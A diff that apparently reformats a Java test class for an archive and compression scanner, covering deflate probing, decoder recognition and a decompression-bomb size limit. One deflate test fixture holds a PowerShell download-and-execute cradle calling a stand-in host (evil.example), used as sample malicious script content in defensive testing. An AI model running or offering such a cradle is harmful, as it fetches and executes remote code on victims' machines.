@@ -31,13 +31,13 @@ import java.util.HexFormat;
 import java.util.List;
 import java.util.Random;
 import java.util.zip.GZIPOutputStream;
+import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
+import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
 import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
 import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
 import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
 import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
 import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;
-import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
-import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
 import org.apache.commons.compress.compressors.deflate.DeflateCompressorOutputStream;
 import org.apache.commons.compress.compressors.deflate.DeflateParameters;
 import org.apache.commons.compress.compressors.lzma.LZMACompressorOutputStream;
@@ -186,10 +186,17 @@ class ArchiveTest {
     /** Bare deflate has no mark: short scripts are known by what they inflate to, noise is not. */
     @Test
     void deflateIsKnownByWhatItInflatesTo() throws Exception {
-        byte[] script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')".getBytes(StandardCharsets.UTF_8);
+        byte[] script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"
+                .getBytes(StandardCharsets.UTF_8);
         assertEquals(30, probe(new Deflate(), deflated(script, false)));
         assertEquals(60, probe(new Zlib(), deflated(script, true)));
-        assertEquals(30, probe(new Deflate(), deflated(new String(script, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16LE), false)));
+        assertEquals(
+                30,
+                probe(
+                        new Deflate(),
+                        deflated(
+                                new String(script, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16LE),
+                                false)));
         Random random = new Random(3);
         int wrong = 0;
         for (int i = 0; i < 20_000; i++) {
@@ -206,8 +213,8 @@ class ArchiveTest {
 
     @Test
     void eachFormIsRecognisedByItsOwnDecoderOnly() throws IOException {
-        List<Decoder> decoders =
-                List.of(new Gzip(), new Bzip2(), new Zip(), new Tar(), new Xz(), new Lzma(), new Zlib(), new SevenZip());
+        List<Decoder> decoders = List.of(
+                new Gzip(), new Bzip2(), new Zip(), new Tar(), new Xz(), new Lzma(), new Zlib(), new SevenZip());
         List<byte[]> forms = List.of(
                 gzip(TEXT), bzip2(), zip("a"), tar("a"), xz(TEXT), lzma(), deflated(TEXT, true), sevenZip("a"), TEXT);
         for (int f = 0; f < forms.size(); f++) {
@@ -393,7 +400,8 @@ class ArchiveTest {
         MemoryCall call = new MemoryCall();
         IOException end = assertThrows(
                 IOException.class,
-                () -> decoder.open(new MemoryContext(temp)).decode(new MemoryPiece("bomb.gz", Piece.BYTES, bomb), limited, call));
+                () -> decoder.open(new MemoryContext(temp))
+                        .decode(new MemoryPiece("bomb.gz", Piece.BYTES, bomb), limited, call));
         assertEquals("the limit", end.getMessage());
         assertTrue(written[0] < 2 << 20);
         assertTrue(call.problems().isEmpty());
